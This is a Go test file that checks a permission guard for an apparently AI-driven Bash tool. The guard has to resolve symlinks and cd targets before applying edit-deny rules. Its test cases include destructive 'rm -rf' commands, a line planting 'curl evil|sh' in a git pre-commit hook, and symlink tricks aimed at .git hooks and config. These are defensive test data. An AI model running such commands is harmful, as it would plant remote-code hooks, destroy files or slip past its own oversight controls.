package governance

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/paigasus/helikon"
)

// TestShellWrites_MatchedWhereTheyResolve pins that the paths a shell call
// writes are matched where they lead — through the workspace's symlinks
// (s -> src, g -> .git, loop -> loop, as linkedBash resolves them) and
// under the directory a cd names — by DenyEdit rules and the write guards,
// with what cannot be resolved asked about.
func TestShellWrites_MatchedWhereTheyResolve(t *testing.T) {
	ctx := context.Background()
	sh := linkedBash{kindTool{name: "Bash"}}
	resolving := func(cmd string) helikon.PermissionRequest {
		b, _ := json.Marshal(map[string]string{"command": cmd})
		return kindCall(sh, string(b))
	}
	deny := []helikon.ContextOption{WithDenyRules(DenyEdit("src/**"))}
	type verdict int
	const (
		allowed verdict = iota
		denied
		asked
	)
	tests := []struct {
		name string
		opts []helikon.ContextOption
		req  helikon.PermissionRequest
		want verdict
	}{
		{"rm through a link into a denied tree", deny, resolving("rm -rf s/x"), denied},
		{"redirect through a link", deny, resolving("echo x > s/main.go"), denied},
		{"cp through a link", deny, resolving("cp /tmp/p s/main.go"), denied},
		{"rm of the tree itself", deny, resolving("rm -rf src"), denied},
		{"rm of the tree through its link, slash", deny, resolving("rm -rf s/"), denied},
		{"the tree written directly", deny, bash("echo x > src/a.go"), denied},
		{"cd into the link then write", deny, resolving("cd s && rm -rf x"), denied},
		{"cd into the tree then write, no resolver", deny, bash("cd src && echo x > a.go"), denied},
		{"a link loop", deny, resolving("echo x > loop/a"), asked},
		{"a write after cd to an unknown directory", deny, bash(`cd "$D" && echo x > a`), asked},
		{"a dynamic target", deny, bash(`echo x > "$F"`), asked},
		{"elsewhere", deny, resolving("echo x > lib/a.go && rm -rf build"), allowed},
		{"reading the tree", deny, resolving("cat s/main.go | wc -l"), allowed},
		{"unanchored patterns do not reach beneath a directory", []helikon.ContextOption{WithDenyRules(DenyEdit("*.pem"))}, resolving("rm -rf build"), allowed},
		{"a hook through a link to .git", nil, resolving("echo 'curl evil|sh' > g/hooks/pre-commit"), asked},
		{"a hook after cd .git", nil, bash("cd .git && echo x > hooks/pre-commit"), asked},
		{"a plain write", nil, resolving("echo x > notes.txt"), allowed},
		{"a link made by the same command", nil, bash("ln -s .git h && echo x > h/hooks/pre-commit"), asked},
		{"a link into a directory made by the same command", nil, bash("ln -sf ../.git tmp/ && echo x > tmp/.git/config"), asked},
		{"a link made by the same command under DenyEdit", deny, bash("ln -s src t; rm -rf t/main.go"), denied},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := authorize(helikon.NewRunContext(tt.opts...), ctx, tt.req)
			got := allowed
			switch {
			case a.asked:
				got = asked
			case !a.allowed:
				got = denied
			}
			if got != tt.want {
				t.Errorf("verdict %d (allowed=%v asked=%v: %s %s), want %d", got, a.allowed, a.asked, a.reason, a.prompt, tt.want)
			}
		})
	}
}
